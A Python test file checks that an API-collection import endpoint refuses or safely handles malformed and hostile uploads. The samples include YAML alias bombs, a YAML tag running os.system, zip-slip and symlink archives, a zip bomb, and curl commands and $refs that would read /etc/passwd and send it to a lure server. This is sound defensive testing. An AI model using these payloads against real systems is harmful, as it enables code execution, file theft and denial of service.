"""Documents that are broken, hostile or odd: a clear refusal or a right import, never half."""

import io
import json
import stat
import zipfile
from typing import Any

import pytest
from aiohttp import FormData, web
from aiohttp.test_utils import TestServer

from tests.conftest import Api, Person, everything
from tests.server.counting import check_counts
from tests.server.importing.documents import POSTMAN, bomb, endpoints_of, fetch, form

pytestmark = pytest.mark.engines("sqlite")

Place = tuple[Person, str]
OPENAPI = "openapi: 3.0.0\ninfo: {title: T, version: '1'}\npaths:\n  /a:\n    get:\n"
GOOD = OPENAPI + "      responses: {200: {description: ok}}\n"


@pytest.fixture
async def place(api: Api) -> Place:
    """Somebody, and their project."""
    ann = await api.person()
    return ann, (await api.project(ann))["id"]


def zipped(**files: bytes) -> bytes:
    """Return an archive; a name is written as ``a__b`` for what a keyword cannot be."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return packed.getvalue()


def link() -> bytes:
    entry = zipfile.ZipInfo("bruno.json")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(entry, "/etc/passwd")
    return packed.getvalue()


def encrypted() -> bytes:
    data = bytearray(zipped(**{"a.json": b"{}"}))
    data[6] |= 1  # the flag of the file itself
    data[data.index(b"PK\x01\x02") + 8] |= 1  # and that in the list of files
    return bytes(data)


POSTMAN_BYTES = json.dumps(POSTMAN).encode()
REFUSED: dict[str, bytes] = {
    "no document": b"hello, is anybody there?",
    "a picture": b"\x89PNG\r\n\x1a\n\x00\x00\x00",
    "nothing": b"",
    "blanks": b" \n\t ",
    "truncated JSON": POSTMAN_BYTES[:-200],
    "truncated YAML": (OPENAPI + '      summary: "cut').encode(),
    "a version that is not read": b"openapi: 4.0.0\ninfo: {title: T, version: '1'}\npaths: {}",
    "a version of Insomnia": b'{"_type": "export", "__export_format": 9, "resources": []}',
    "no number": b'{"info": {"name": NaN}}',
    "an alias bomb": bomb().encode(),
    "itself": b"a: &a [*a]\nopenapi: 3.0.0\n",
    "itself in a mapping": (GOOD + "x: &x {self: *x}\n").encode(),
    "code": b"!!python/object/apply:os.system ['touch /tmp/x']",
    "deep JSON": b"[" * 100_000 + b"]" * 100_000,
    "deep YAML": b"- " * 50_000 + b"x",
    "deep flow": b"{a: " * 50_000,
    "wide and deep": b'{"a":' * 99_999 + b"1",
    "two documents": (GOOD + "---\n" + GOOD).encode(),
    "out of the archive": zipped(**{"../bruno.json": b"{}", "a.bru": b"get {\n}\n"}),
    "absolute": zipped(**{"/etc/bruno.json": b"{}", "a.bru": b"x"}),
    "a drive": zipped(**{"C:/bruno.json": b"{}", "a.bru": b"x"}),
    "a backslash": zipped(**{"a/b.json": b"{}", "c.json": b"{}"}).replace(b"a/b", b"a\\b"),
    "a link": link(),
    "encrypted": encrypted(),
    "an archive in an archive": zipped(**{"a.zip": zipped(**{"a.json": POSTMAN_BYTES})}),
    "packed a thousand times": zipped(**{"a.json": b" " * 40_000_000}),
    "no archive": b"PK\x03\x04 and then nothing",
    "an empty archive": zipped(),
    "half an archive": zipped(**{"a.json": POSTMAN_BYTES, "b.json": POSTMAN_BYTES})[:-60],
}


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
async def test_it_is_refused_with_a_sentence_and_nothing_is_written(
    api: Api, place: Place, content: bytes
) -> None:
    ann, project_id = place
    before = await everything()
    data = form(project_id, content, "file")
    answer = await api.json("POST", "/collections/import", ann, data=data, expect=400)
    [detail] = answer["error"]["details"]
    assert detail["field"] == "data"
    assert detail["reason"].endswith(".")
    assert len(str(answer)) < 1_500
    assert await everything() == before


async def test_as_a_project_they_are_refused_too(api: Api, place: Place) -> None:
    ann, _ = place
    before = await everything()
    for content in REFUSED.values():
        data = FormData()
        data.add_field("file", content, filename="project.json")
        await api.json("POST", "/projects/import", ann, data=data, expect=400)
    assert await everything() == before


UTF16 = json.dumps(POSTMAN).encode("utf-16")
ODD: dict[str, bytes] = {
    "twice the same key": POSTMAN_BYTES.replace(b'"item":', b'"x": 1, "x": 2, "item":', 1),
    "an integer beyond 64 bits": POSTMAN_BYTES.replace(
        b'"item":', b'"big": 123456789012345678901234567890, "item":', 1
    ),
    "UTF-16 with a mark": UTF16,
    "UTF-16 without a mark": UTF16[2:],
    "UTF-16, the other way round": json.dumps(POSTMAN).encode("utf-16-be"),
    "UTF-8 with a mark": b"\xef\xbb\xbf" + POSTMAN_BYTES,
    "half a surrogate pair": POSTMAN_BYTES.replace(b"List bread", b"List \\ud83d bread"),
    "control characters": POSTMAN_BYTES.replace(b"List bread", b"List\\u0007\\u0000\\n bread"),
}


@pytest.mark.parametrize("content", ODD.values(), ids=ODD)
async def test_what_is_odd_comes_in_and_goes_out(api: Api, place: Place, content: bytes) -> None:
    ann, project_id = place
    data = form(project_id, content, "file")
    answer = await api.json("POST", "/collections/import", ann, data=data, expect=201)
    assert answer["imported"]["endpoints"] == 2
    await check_counts(project_id)
    for one in (await endpoints_of(api, ann, project_id)).values():
        assert one["name"].isprintable()
    path = f"/collections/{answer['collectionId']}/export?format=postman"
    again = json.loads(await fetch(api, ann, path))
    assert again.get("big") in (None, 123456789012345678901234567890)


TRAPS = OPENAPI + (
    "      operationId: no\n      summary: 12:30:45\n      parameters:\n"
    "        - {name: a, in: query, example: 0123, schema: {type: string}}\n"
    "        - {name: b, in: query, example: 1.10, schema: {type: string}}\n"
    "        - {name: c, in: query, example: 2026-11-25, schema: {type: string}}\n"
    "        - {name: d, in: query, example: no, schema: {type: string}}\n"
    "      responses:\n        200: {description: ok}\n        404: {description: yes}\n"
    "      x-tab: |\n        a\n        \tb\n"
)


async def test_yaml_is_read_as_it_is_written(api: Api, place: Place) -> None:
    ann, project_id = place
    data = form(project_id, TRAPS.encode(), "t.yaml")
    answer = await api.json("POST", "/collections/import", ann, data=data, expect=201)
    [read] = (await endpoints_of(api, ann, project_id)).values()
    assert read["name"] == "12:30:45"
    values = {one["key"]: one["value"] for one in read["params"]}
    assert values == {"a": "0123", "b": "1.10", "c": "2026-11-25", "d": "no"}
    path = f"/collections/{answer['collectionId']}/export?format=openapi&version=3.0"
    get = json.loads(await fetch(api, ann, path))["paths"]["/a"]["get"]
    assert get["operationId"] == "no"
    assert get["responses"].keys() == {"200", "404"}


async def test_nothing_is_fetched_and_no_file_is_opened(api: Api, place: Place) -> None:
    ann, project_id = place
    asked: list[str] = []

    async def note(request: web.Request) -> web.Response:
        asked.append(request.path)
        return web.json_response({"type": "object"})

    other = web.Application()
    other.router.add_route("*", "/{path:.*}", note)
    async with TestServer(other) as there:
        lure = str(there.make_url("/schema.json"))
        schema = f"{{$ref: '{lure}'}}"
        openapi = OPENAPI + (
            f"      parameters: [{schema}]\n      externalDocs: {{url: '{lure}'}}\n"
            f"      requestBody: {{content: {{application/json: {{schema: {schema}}}}}}}\n"
            "      responses: {'200': {$ref: 'file:///etc/passwd'}, '201': {$ref: '/etc/passwd'}}\n"
        )
        commands = f"curl -F a=@/etc/passwd -F b=</etc/passwd -H @/etc/passwd {lure}\n"
        commands += f"curl -K /etc/passwd --data @/etc/passwd {lure}\n"
        rest = f"POST {lure}\nContent-Type: text/plain\n\n< /etc/passwd\n"
        for text in (openapi, commands, rest):
            data = form(project_id, text.encode(), "file")
            answer = await api.json("POST", "/collections/import", ann, data=data, expect=201)
            for format_ in ("postman", "curl", "http"):
                path = f"/collections/{answer['collectionId']}/export?format={format_}"
                assert b"root:" not in await fetch(api, ann, path)
    assert asked == []


@pytest.mark.parametrize("files", [0, 2])
async def test_a_form_has_one_file(api: Api, place: Place, files: int) -> None:
    ann, project_id = place
    fields = {"projectId": project_id, "mode": "new"}
    data = FormData(fields, default_to_multipart=True)
    for number in range(files):
        data.add_field(f"file{number}", POSTMAN_BYTES, filename=f"{number}.json")
    refused = await api.json("POST", "/collections/import", ann, data=data, expect=400)
    assert refused["error"]["message"]


@pytest.mark.parametrize("name", ["nothing", "soap", "openapi", "x" * 51, "asyncapi"])
async def test_a_format_that_it_is_not_is_refused(api: Api, place: Place, name: str) -> None:
    ann, project_id = place
    before = await everything()
    data: Any = form(project_id, POSTMAN_BYTES, format=name)
    await api.json("POST", "/collections/import", ann, data=data, expect=400)
    assert await everything() == before
